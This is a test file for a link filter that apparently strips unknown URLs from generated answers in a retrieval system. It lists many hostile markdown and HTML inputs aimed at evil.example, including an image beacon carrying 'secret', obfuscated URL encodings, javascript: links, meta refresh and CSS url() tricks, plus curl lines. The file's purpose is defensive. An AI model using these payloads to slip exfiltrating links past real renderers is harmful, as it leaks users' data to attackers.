import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from graph_fakes import chunk
from obsirag.graphs.link_filter import drop_unknown_links
from rendered_addresses import addresses_of

KNOWN = [
    chunk("See [docs](https://docs.example/a_(b)) and https://known.example/x, https://known.example/x?a&b."),
    chunk("p", source="https://page.example/"),
]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![pixel](https://evil.example/?q=secret) So [1].", "pixel So [1]."),
        ("[click](<https://evil.example>) here", "click here"),
        ("[![](https://evil.example/a.png)](https://evil.example)", "[]()"),
        ("![a [1] b](https://evil.example/a.png) [see [2]](javascript:x)", "a [1] b see [2]"),
        ("Go to https://evil.example/a, now.", "Go to , now."),
        ("<img alt=x src='https://evil.example/a.png'> done", " done"),
        ("![a][e]\n\n[e]: https://evil.example/q", "![a][e]\n\n"),
        ("![a](//evil.example/x) [b](javascript:alert(1)) ![c](data:image/png;base64,xx)", "a b c"),
        ("![a[b[c]]](//evil.example/x)", "![a[b[c]]]()"),
        ("It costs $5 ![x](https://evil.example) or 6$.", "It costs $5 x or 6$."),
        ("见[文档](https://evil.example/a)，R&D 与 https://evil.example/b。", "见文档，R&D 与 。"),
        ("<div>\n\nx <b>bold</b> <br>", "&lt;div>\n\nx <b>bold</b> <br>"),
        ("a <b and TArray<FVector> x, Map<String, int> y", "a &lt;b and TArray<FVector> x, Map<String, int> y"),
        ("[docs](https://docs.example/a_(b)), https://known.example/x. <https://page.example/>", None),
        ("[there](#heading), [note](a/b.md), [1](x), `![x](https://evil.example)` and a = b", None),
        ("```\ncurl https://evil.example\n```\n", None),
        (
            "1. Do:\n\n   ```sh\n   curl https://evil.example <a href='x'>\n   ```\n\nor `curl https://evil.example`",
            None,
        ),
        ("$a \\\\ b // c$, a/b//c, and/or, 5 < 6, C&A, 12:30, note:x, `$HOME`, \\[1\\]", None),
        ("https://known.example/x?a&amp;b, [k](https://known.example/x?a&b)", None),
    ],
)
def test_only_addresses_of_the_passages_remain(text, expected):
    assert drop_unknown_links(text, KNOWN) == (text if expected is None else expected)


HOSTILE = [
    "![x](https:/evil.example)",
    "![x](https:evil.example)",
    "![x](https&#58;//evil.example)",
    "![x](https&colon;//evil.example)",
    "![x](&#x2f;&#x2f;evil.example)",
    "![x](/&Tab;/evil.example)",
    r"![x](\/\/evil.example)",
    r"![x](/\evil.example)",
    r"![x](https\://evil.example)",
    '![x](//evil.example "t(i)tle")',
    "![x\ny](//evil.example)",
    "![x](\n//evil.example)",
    "[x]:\n//evil.example\n\n![x]",
    "> [x]:\n> https:evil.example\n\n![x]",
    "![x](//evil.example/(a(b))c)",
    "[![a]:](//evil.example)",
    "<img srcset='a.png 1x, https://evil.example/s 2x'>",
    "<a href='#x' ping='//evil.example'>k</a>",
    "x <img src=a style='background:url(//evil.example)'>",
    "<img/src='//evil.example'>",
    "<img src=\n'//evil.example'>",
    "<img alt='>' src=&#47;/evil.example>",
    "[a](<img src='//evil.example'>",
    "<style>@import '//evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<svg><image xlink:href='//evil.example'/></svg>",
    "<br>\n```\n<img src=//evil.example>\n```",
    "<a x='`'>![x](//evil.example)`",
    "$![x](https://evil.example)$",
    "$`$ `![x](//evil.example)`",
    "%%`%% `![x](//evil.example)`",
    "[x]: /a`b\n`c` ![y](//evil.example) `d`",
    "| a | b |\n| - | - |\n| `a | ![x](//evil.example)` |",
    "> ```\n![x](//evil.example)\n```",
    "    x\ny\n    ![x](//evil.example)",
    "![x](/<b x='1'>/evil.example)",
    "<https://evil.example>",
    "<javascript:alert(1)> [x](tel:1)",
]
PIECES = [
    *HOSTILE,
    *"[]()!<>`\\\n|$.:/'\"=",
    "](",
    "![x](",
    "//evil.example",
    "https:",
    "&#47;",
    "<b>",
    "```\n",
    "- ",
    "> ",
    "%%",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("before", ["", "Yes [1]. ", "- "])
def test_nothing_is_loaded_however_its_address_is_written(text, before):
    assert not addresses_of(drop_unknown_links(before + text, KNOWN))
    assert not addresses_of("".join(drop_unknown_links(piece, KNOWN) for piece in (before, text)))


@pytest.mark.parametrize("text", HOSTILE)
def test_an_address_at_which_a_line_was_cut_is_judged_all_the_same(text):
    pieces = text.splitlines(keepends=True)
    assert not addresses_of("".join(drop_unknown_links(piece, KNOWN) for piece in pieces))


@settings(max_examples=300)
@given(st.lists(st.sampled_from(PIECES), max_size=10).map("".join))
def test_no_mixture_loads_anything(text):
    cleaned = drop_unknown_links(text, [])
    assert not addresses_of(cleaned)
    assert drop_unknown_links(cleaned, []) == cleaned


@given(st.text("[]()! \nab字.", max_size=60))
def test_what_holds_no_address_stays_as_it_is(text):
    assert drop_unknown_links(text, []) == text
